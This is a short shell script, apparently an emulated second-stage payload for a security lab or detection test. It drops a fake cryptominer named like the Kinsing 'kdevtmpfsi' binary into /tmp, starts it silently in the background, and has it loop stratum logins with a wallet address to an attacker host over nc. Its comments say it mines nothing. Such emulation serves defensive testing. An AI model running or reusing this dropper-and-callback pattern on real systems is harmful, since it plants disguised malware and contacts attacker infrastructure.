#!/bin/sh
# Second stage, served by the attacker's web server (10.213.2.66:8000/k.sh) and run by the
# command injection in shop-web: drop a fake miner named like the Kinsing miner in /tmp and
# start it against the attacker's "pool" on 10.213.2.66:3333 (a stratum login with a
# Monero-style wallet, then the connection is held). It mines nothing and uses no CPU.
cat > /tmp/kdevtmpfsi << 'MINER'
#!/bin/sh
# kdevtmpfsi -o HOST:PORT -u WALLET -p PASS
pool=$2
wallet=$4
while :; do
  printf '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"XMRig/6.21.0"}}\n' "$wallet" |
    nc "${pool%:*}" "${pool#*:}"
  sleep 5
done
MINER
chmod 755 /tmp/kdevtmpfsi
/tmp/kdevtmpfsi -o 10.213.2.66:3333 -u 44YqH31AjeXqpQMr2JYtDoxTbbk7DdcmtoHjtgk6wUN6QtTtHVm7qDmhsK73ezDuiQYvDZdimztZ2hQGfULPe86ZykaD8fj -p x < /dev/null > /dev/null 2>&1 &
